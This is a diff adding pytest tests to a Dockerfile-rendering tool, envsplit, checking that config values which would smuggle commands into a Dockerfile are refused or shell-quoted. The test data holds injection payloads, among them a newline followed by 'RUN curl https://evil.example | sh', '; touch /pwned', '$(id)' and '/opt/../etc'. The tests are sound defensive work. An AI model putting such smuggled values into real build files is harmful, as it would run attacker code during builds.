@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shutil
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -9,16 +11,25 @@ from markdown_it import MarkdownIt
 from markdown_it.token import Token
 from ruamel.yaml import YAML
 from test_diff import lock, pkg
+from test_dockerfiles import HADOLINT
+from test_hardening import locked, run, snapshot
 
 from envsplit.audit_flags import Threshold
 from envsplit.audit_model import AuditReport, EnvAudit, Row
 from envsplit.audit_render.markdown import render_markdown as audit_markdown
 from envsplit.diff import diff_locksets
 from envsplit.diff_render import render_markdown
+from envsplit.docker_values import is_reference
 from envsplit.lockset import LockSet
 from envsplit.mdtext import md_code, md_text
+from envsplit.models import DockerConfig
+from envsplit.render import dockerfile as dockerfile_render
+from envsplit.sources import read_project
+
+from projectfiles import edit
 
 REPO = Path(__file__).parent.parent
+__all__ = ["locked"]  # a fixture, used by name
 
 # Each would change a PR body if written as is: end a table row or hide the rest, ping, link, emphasise.
 HOSTILE = (
@@ -182,3 +193,176 @@ def test_ordinary_names_versions_and_builds_are_left_as_they_are() -> None:
 def test_code_spans_never_hold_what_they_cannot(value: str) -> None:
     (token,) = [t for t in _walk(_gfm().parse(f"see {md_code(value)} here")) if t.type == "inline"]
     assert _plain(token) == f"see {_visible(value)} here"
+
+
+# --- item 6: values that reach a Dockerfile or the bake file ---------------------------------------
+
+_PLAIN = "use letters, digits and '.', '_', '+', '-' between the slashes"
+_REF = "is not an image reference such as ubuntu:24.04"
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "message"),
+    [
+        (
+            "  image: mambaorg",
+            '  prefix: "/opt/conda\\nRUN curl https://evil.example | sh"\n  image: mambaorg',
+            "envsplit.yml:13: docker.prefix: '/opt/conda\\nRUN curl https://evil.example | sh' is not a plain "
+            f"absolute folder such as /opt/conda; {_PLAIN}",
+        ),
+        (
+            "  image: mambaorg",
+            "  prefix: /opt/conda; touch /pwned\n  image: mambaorg",
+            "envsplit.yml:13: docker.prefix: '/opt/conda; touch /pwned' is not a plain absolute folder such as "
+            f"/opt/conda; {_PLAIN}",
+        ),
+        (
+            "  image: mambaorg",
+            "  prefix: /opt/$(id)\n  image: mambaorg",
+            f"envsplit.yml:13: docker.prefix: '/opt/$(id)' is not a plain absolute folder such as /opt/conda; {_PLAIN}",
+        ),
+        (
+            "  image: mambaorg",
+            "  prefix: opt/conda\n  image: mambaorg",
+            f"envsplit.yml:13: docker.prefix: 'opt/conda' is not a plain absolute folder such as /opt/conda; {_PLAIN}",
+        ),
+        (
+            "  image: mambaorg",
+            "  prefix: /opt/../etc\n  image: mambaorg",
+            f"envsplit.yml:13: docker.prefix: '/opt/../etc' is not a plain absolute folder such as /opt/conda; {_PLAIN}",
+        ),
+        (
+            "  image: mambaorg",
+            '  output: "docker\\nRUN id"\n  image: mambaorg',
+            f"envsplit.yml:13: docker.output: 'docker\\nRUN id' is not a plain folder path; {_PLAIN}",
+        ),
+        (
+            "output: locks",
+            'output: "locks,target=/etc"',
+            f"envsplit.yml:5: output: 'locks,target=/etc' is not a plain folder path; {_PLAIN}",
+        ),
+        (
+            "output: locks",
+            'output: "locks\\nRUN id"',
+            f"envsplit.yml:5: output: 'locks\\nRUN id' is not a plain folder path; {_PLAIN}",
+        ),
+        (
+            "  image: mambaorg/micromamba:2.3.3",
+            "  image: mambaorg/micromamba:2.3.3@sha256:abc",
+            f"envsplit.yml:13: docker.image: 'mambaorg/micromamba:2.3.3@sha256:abc' {_REF}",
+        ),
+        (
+            "  image: mambaorg/micromamba:2.3.3",
+            "  micromamba: Mamba/Micromamba\n  image: mambaorg/micromamba:2.3.3",
+            f"envsplit.yml:13: docker.micromamba: 'Mamba/Micromamba' {_REF}",
+        ),
+        (
+            'image: "nvidia/cuda:12.9.1-base-ubuntu24.04"',
+            'image: "nvidia/cuda:12.9.1-base-ubuntu24.04\\n"',
+            f"envsplit.yml:8: variants.cuda.image: 'nvidia/cuda:12.9.1-base-ubuntu24.04\\n' {_REF}",
+        ),
+        (
+            "  repository: ghcr.io/rocker-org/ml ",
+            "  repository: ghcr.io/rocker-org/ml:latest ",
+            "envsplit.yml:12: docker.repository: 'ghcr.io/rocker-org/ml:latest' is not an image repository such "
+            "as ghcr.io/me/images (no tag, no digest)",
+        ),
+        (
+            "  cpu: {overlays: [cpu]}",
+            "  cpu: {overlays: [cpu]}\n  " + "a" * 129 + ": {overlays: [cpu]}",
+            f"envsplit.yml:8: variants.{'a' * 129}: variant names are image tags (<repository>:<variant>): at most "
+            "128 letters, digits, '.', '_' and '-', on one line",
+        ),
+    ],
+    ids=[
+        "prefix-newline",
+        "prefix-semicolon",
+        "prefix-command-substitution",
+        "prefix-relative",
+        "prefix-dotdot",
+        "docker-output-newline",
+        "output-mount-option",
+        "output-newline",
+        "image-bad-digest",
+        "micromamba-upper-case",
+        "variant-image-newline",
+        "repository-with-tag",
+        "variant-name-too-long-for-a-tag",
+    ],
+)
+def test_values_that_would_reach_a_dockerfile_are_refused(
+    locked: Path, old: str, new: str, message: str
+) -> None:
+    edit(locked / "envsplit.yml", old, new)
+    before = snapshot(locked)
+    result = run(locked, "dockerfile")
+    assert (result.exit_code, result.output) == (2, f"error: {message}\n")
+    assert snapshot(locked) == before
+
+
+def test_a_trailing_newline_in_a_variant_name_is_refused(locked: Path) -> None:
+    edit(
+        locked / "envsplit.yml",
+        "  cpu: {overlays: [cpu]}",
+        '  cpu: {overlays: [cpu]}\n  "gpu\\n": {overlays: [cpu]}',
+    )
+    before = snapshot(locked)
+    result = run(locked, "dockerfile")
+    assert result.exit_code == 2
+    assert result.output.startswith("error: envsplit.yml:8: variants.") and result.output.count("\n") == 1
+    assert snapshot(locked) == before
+
+
+@pytest.mark.parametrize(
+    ("value", "ok"),
+    [
+        ("ubuntu", True),
+        ("ubuntu:24.04", True),
+        ("nvidia/cuda:12.9.1-base-ubuntu24.04", True),
+        ("localhost:5000/team/ml:v1", True),
+        ("[::1]:5000/ml", True),
+        ("ghcr.io/x/y@sha256:" + "a" * 64, True),
+        ("ghcr.io/x/y:1@sha256:" + "a" * 64, True),
+        ("ubuntu:24.04\n", False),
+        ("ubuntu:24.04 AS evil", False),
+        ("Ubuntu", False),
+        ("ubuntu:" + "t" * 129, False),
+        ("ubuntu@sha256:abc", False),
+        ("-ubuntu", False),
+        ("a" * 256, False),
+    ],
+)
+def test_image_references_follow_dockers_grammar(value: str, ok: bool) -> None:
+    assert is_reference(value) is ok
+
+
+def test_unusual_but_valid_values_render_hadolint_clean_dockerfiles(locked: Path) -> None:
+    edit(
+        locked / "envsplit.yml",
+        "  repository: ghcr.io/rocker-org/ml ",
+        "  repository: localhost:5000/team/ml ",
+    )
+    edit(locked / "envsplit.yml", "  image: mambaorg", "  prefix: /srv/envs/ml-1.0\n  image: mambaorg")
+    shutil.rmtree(locked / "dockerfiles")
+    result = run(locked, "dockerfile")
+    assert result.exit_code == 0, result.output
+    assert HADOLINT is not None
+    for path in sorted((locked / "dockerfiles").glob("Dockerfile.*")):
+        text = path.read_text()
+        assert "--prefix /srv/envs/ml-1.0 " in text or "FROM ${BASE_IMAGE}" in text
+        proc = subprocess.run(
+            [HADOLINT, "--no-color", str(path)], capture_output=True, text=True, check=False
+        )
+        assert (proc.returncode, proc.stdout, proc.stderr) == (0, "", ""), path.name
+
+
+def test_the_renderer_quotes_the_prefix_for_the_shell(locked: Path) -> None:
+    """Defence in depth: even a prefix that slipped past read_project stays one shell word."""
+    project = read_project(locked)
+    from envsplit.compose import compose
+
+    spec = compose(project, "cpu")
+    text = dockerfile_render.render(spec, DockerConfig(prefix="/opt/x;touch /p"), "locks/cpu", None)
+    assert "mkdir -p '/opt/x;touch /p/conda-meta'" in text
+    assert "--prefix '/opt/x;touch /p' --file" in text
+    assert "find '/opt/x;touch /p' -follow" in text and "find '/opt/x;touch /p' -type d" in text
